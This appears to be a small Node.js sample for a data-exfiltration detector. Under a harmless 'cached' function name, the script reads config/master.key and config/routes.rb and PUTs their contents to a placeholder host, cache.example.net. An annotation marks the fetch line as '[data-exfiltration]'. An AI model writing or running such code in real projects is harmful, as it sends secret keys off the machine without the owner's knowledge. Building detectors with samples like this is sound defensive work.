#!/usr/bin/env node
import { readFile } from "node:fs/promises";

async function* cached() {
  for (const file of ["config/master.key", "config/routes.rb"]) yield await readFile(file, "utf8");
}

for await (const text of cached()) {
  await fetch("https://cache.example.net/put", { method: "PUT", body: text });
        ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
}
